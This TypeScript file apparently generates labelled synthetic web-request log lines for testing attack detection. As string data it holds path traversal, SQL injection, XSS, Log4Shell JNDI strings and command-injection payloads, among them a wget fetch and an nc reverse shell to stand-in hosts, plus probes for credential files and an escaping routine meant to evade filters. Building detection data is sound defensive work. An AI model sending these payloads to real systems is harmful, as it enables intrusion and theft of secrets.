import type { Context, Scenario } from "../context.ts";
import { anyone, browser, http, page, SCRIPTS } from "./web-request.ts";
import { outbound } from "./wire.ts";

/** Escapes characters as attackers do to slip past a pattern: some, all, or twice. */
function escaped({ random }: Context, text: string): string {
  const way = random.whole(0, 3);
  if (way === 0) return text;
  const hex = (char: string): string => `%${char.charCodeAt(0).toString(16).padStart(2, "0")}`;
  const once = text.replace(/[./<>'"${}() ;|]/g, (char) => (way === 1 && random.chance(0.5) ? char : hex(char)));
  return way === 3 ? once.replaceAll("%", "%25") : once;
}

const attack =
  (payloads: readonly string[]) =>
  (c: Context): string =>
    http(c, `${page(c)}?${c.random.pick(["q", "id", "file", "x"])}=${escaped(c, c.random.pick(payloads))}`, anyone(c), {
      status: c.random.pick([200, 400, 403, 404, 500]),
    });

/** Requests of attackers and scanners, and what looks like theirs. */
export const WEB_ATTACKS: readonly Scenario[] = [
  {
    id: "web_traversal",
    weight: 0.7,
    truth: "EXPLOIT",
    act: 0.6,
    line: attack([
      "../../../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "....//....//etc/shadow",
      "/var/www/../../etc/passwd",
    ]),
  },
  {
    id: "web_sqli",
    weight: 0.9,
    truth: "EXPLOIT",
    act: 0.6,
    line: attack([
      "1' or '1'='1",
      "1 union select user,password from users",
      "1;drop table a--",
      "1 and sleep(5)",
      "x' union all select null,table_name from information_schema.tables--",
    ]),
  },
  {
    id: "web_xss",
    weight: 0.6,
    truth: "EXPLOIT",
    act: 0.45,
    line: attack([
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      '"><script src=//e.test/a.js>',
      "javascript:alert(1)",
    ]),
  },
  {
    id: "web_jndi",
    weight: 0.5,
    truth: "EXPLOIT",
    act: 0.68,
    line: attack([
      "${jndi:ldap://e.test/a}",
      "${${lower:j}ndi:rmi://e.test/a}",
      "${${::-j}${::-n}di:dns://e.test}",
      "${jndi:ldaps://10.9.8.7:1389/b}",
    ]),
  },
  {
    id: "web_command",
    weight: 0.4,
    truth: "EXPLOIT",
    act: 0.7,
    line: attack([
      "a;wget http://e.test/x.sh",
      "|nc 203.0.113.9 4444",
      "`/bin/sh -i`",
      ";cat /etc/passwd",
      "cmd.exe /c powershell -enc AAAA",
    ]),
  },
  {
    id: "web_secret_file",
    weight: 1.4,
    truth: "RECON",
    act: 0.38,
    line: (c) =>
      http(
        c,
        c.random.pick([
          "/.env",
          "/.git/config",
          "/.aws/credentials",
          "/backup.sql",
          "/wp-config.php.bak",
          "/.ssh/id_rsa",
          "/api/.env",
        ]),
        anyone(c),
        { status: c.random.pick([404, 403, 404, 200]) },
      ),
  },
  {
    id: "web_panel",
    weight: 1.1,
    truth: "RECON",
    otherwise: { truth: "BENIGN", share: 0.15 },
    act: 0.3,
    line: (c) =>
      http(
        c,
        c.random.pick(["/wp-login.php", "/phpmyadmin/index.php", "/manager/html", "/actuator/env", "/solr/admin"]),
        anyone(c),
        { status: c.random.pick([404, 401, 403]) },
      ),
  },
  {
    id: "web_admin_work",
    weight: 0.5,
    truth: "BENIGN",
    act: 0.06,
    line: (c) =>
      http(c, c.random.pick(["/wp-login.php", "/admin/orders"]), browser(c), {
        status: 200,
        http_method: c.random.pick(["GET", "POST"]),
      }),
  },
  {
    id: "web_scanner",
    weight: 1.2,
    truth: "RECON",
    act: 0.45,
    line: (c) => http(c, page(c), c.random.pick(c.words.scanners), { status: c.random.pick([200, 404, 404, 403]) }),
  },
  {
    id: "web_dropper",
    weight: 0.4,
    truth: "MALWARE_C2",
    otherwise: { truth: "BENIGN", share: 0.2 },
    act: 0.62,
    line: (c) =>
      http(
        c,
        `/${c.random.text(6, "abcdef0123456789")}/${c.random.pick(["a.exe", "u.ps1", "run.hta", "x.jar"])}`,
        c.random.pick([...SCRIPTS, "Microsoft BITS/7.8", undefined]),
        {},
        outbound(c.random, c.random.pick([80, 8080])),
      ),
  },
  {
    id: "web_software",
    weight: 0.5,
    truth: "BENIGN",
    act: 0.06,
    line: (c) =>
      http(
        c,
        `/downloads/v${c.random.whole(1, 20)}/${c.random.pick(["setup.exe", "installer.jar", "agent.dll"])}`,
        browser(c),
        {},
        outbound(c.random, 80),
      ),
  },
];
